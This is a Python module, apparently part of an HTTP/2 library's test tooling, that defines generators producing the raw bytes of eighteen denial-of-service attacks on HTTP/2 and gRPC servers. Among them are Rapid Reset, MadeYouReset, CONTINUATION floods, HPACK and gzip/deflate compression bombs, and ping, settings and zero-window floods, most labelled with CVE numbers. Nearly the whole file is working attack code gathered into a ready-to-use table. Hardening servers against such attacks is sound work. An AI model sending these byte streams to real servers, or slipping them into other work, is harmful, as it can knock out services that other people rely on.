"""Attacks on HTTP/2 servers: endless iterators of the bytes that a hostile client sends on one connection.

Most of them have stopped well-known servers; the CVE numbers are those of the reports.
"""

import zlib
from collections.abc import Callable, Iterator
from itertools import count

from popmq_http2.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTING,
    SETTINGS,
    U32,
    WINDOW_UPDATE,
    frame,
    settings,
)
from popmq_http2.hpack import encode, remembered

Pieces = Iterator[bytes]
GREETING = PREFACE + settings({}) + frame(SETTINGS, ACK, 0)
MESSAGE = b"\0" + U32.pack(10_000) + bytes(10_000)


def head(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The header block of a call."""
    pairs = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"t")]
    return encode([*pairs, (b"te", b"trailers"), (b"content-type", b"application/grpc"), *more])


def streams(path: bytes, following: Callable[[int], bytes], flags: int = END_HEADERS) -> Pieces:
    """A call and its further frames, on one stream after the other."""
    block = head(path)
    return (frame(HEADERS, flags, number, block) + following(number) for number in count(1, 2))


def rapid_reset(path: bytes) -> Pieces:
    """CVE-2023-44487: calls that the client cancels at once."""
    return streams(path, lambda number: frame(RST_STREAM, 0, number, U32.pack(8)))


def made_to_reset(path: bytes) -> Pieces:
    """CVE-2025-8671: calls with a protocol error, so that the server cancels them."""
    return streams(path, lambda number: frame(WINDOW_UPDATE, 0, number, U32.pack(0)))


def continuations(path: bytes) -> Pieces:
    """CVE-2024-27316: a header block that never ends."""
    yield frame(HEADERS, 0, 1, head(path))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\1x\1x")


def hpack_bomb(path: bytes) -> Pieces:
    """CVE-2016-6581: one large entry of the HPACK table, referenced thousands of times."""
    yield frame(HEADERS, END_HEADERS, 1, head(path) + remembered(b"x", b"y" * 3_900))
    for number in count(3, 2):
        yield frame(HEADERS, END_HEADERS, number, b"\xbe" * 16_000)


def header_flood(path: bytes) -> Pieces:
    """Calls with as many headers as are allowed, all different, so that no cache of header blocks helps."""
    for number in count(1, 2):
        more = [(b"x-%d-%d" % (number, place), b"v" * 20) for place in range(200)]
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, head(path, *more))


def huffman_flood(path: bytes) -> Pieces:
    """Calls with one long Huffman string each: a loop over its bytes, and not many headers."""
    packed = int("00011" * 8 * 3_000, 2).to_bytes(15_000, "big")  # each 00011 is an a
    for number in count(1, 2):
        name, size = b"x-%d" % number, len(packed) - 0x7F
        value = bytes((0xFF, size & 0x7F | 0x80, size >> 7)) + packed
        yield frame(HEADERS, END_HEADERS, number, head(path) + b"\0" + bytes((len(name),)) + name + value)


def deflate_bomb(path: bytes) -> Pieces:
    """The compression bomb in deflate, which does not say how large it is."""
    return bombs(path, b"deflate", zlib.MAX_WBITS)


def pings(path: bytes) -> Pieces:
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def empty_settings(path: bytes) -> Pieces:
    """CVE-2019-9515."""
    while True:
        yield settings({})


def full_settings(path: bytes) -> Pieces:
    """As many settings as go into a frame, each of which changes the window of every open call."""
    yield from (frame(HEADERS, END_HEADERS, number, head(path)) for number in range(1, 2_001, 2))
    while True:
        yield frame(SETTINGS, 0, 0, b"".join(SETTING.pack(INITIAL_WINDOW_SIZE, size) for size in range(2_700)))


def priorities(path: bytes) -> Pieces:
    """CVE-2019-9513."""
    while True:
        yield frame(PRIORITY, 0, 1, U32.pack(0) + b"\x10")


def empty_data(path: bytes) -> Pieces:
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, head(path))
    while True:
        yield frame(DATA, 0, 1)


def tiny_data(path: bytes) -> Pieces:
    """A message byte by byte."""
    yield frame(HEADERS, END_HEADERS, 1, head(path)) + frame(DATA, 0, 1, b"\0" + U32.pack(1 << 20))
    while True:
        yield frame(DATA, 0, 1, b"x")


def byte_windows(path: bytes) -> Pieces:
    """CVE-2019-9511: the client lets an answer through byte by byte (windows of 1)."""
    yield settings({INITIAL_WINDOW_SIZE: 0}) + frame(HEADERS, END_HEADERS, 1, head(path))
    yield frame(DATA, END_STREAM, 1, MESSAGE)
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, U32.pack(1))


def giant_frames(path: bytes) -> Pieces:
    """A call whose DATA frame announces the 16 MiB that three bytes can say."""
    yield frame(HEADERS, END_HEADERS, 1, head(path))
    yield b"\xff\xff\xff" + bytes([DATA, 0]) + U32.pack(1)
    while True:
        yield bytes(16_000)


def compression_bomb(path: bytes) -> Pieces:
    """Calls whose 20 KiB expand to 20 MiB, the largest message that is taken."""
    return bombs(path, b"gzip", 16 + zlib.MAX_WBITS)


def bombs(path: bytes, encoding: bytes, wbits: int) -> Pieces:
    """Calls with a message of 20 MiB of zeros, packed."""
    packer = zlib.compressobj(9, wbits=wbits)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(20)) + packer.flush()
    message, block = b"\1" + U32.pack(len(packed)) + packed, head(path, (b"grpc-encoding", encoding))
    cut = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]
    for number in count(1, 2):
        data = [frame(DATA, END_STREAM if piece is cut[-1] else 0, number, piece) for piece in cut]
        yield frame(HEADERS, END_HEADERS, number, block) + b"".join(data)


def no_windows(path: bytes) -> Pieces:
    """CVE-2019-9517: calls whose answers the client never reads."""
    yield settings({INITIAL_WINDOW_SIZE: 0})
    yield from streams(path, lambda number: frame(DATA, END_STREAM, number, MESSAGE))


def unfinished(path: bytes) -> Pieces:
    """Calls with large headers, all different, that the client never ends."""
    for number in count(1, 2):
        yield frame(HEADERS, END_HEADERS, number, head(path) + encode([(b"x", b"%d " % number + b"v" * 10_000)]))


ATTACKS: dict[str, Callable[[bytes], Pieces]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, made_to_reset, continuations, hpack_bomb, header_flood, huffman_flood, pings, empty_settings,
        full_settings, priorities, empty_data, tiny_data, byte_windows, giant_frames, compression_bomb, deflate_bomb,
        no_windows, unfinished,
    )
}  # fmt: skip
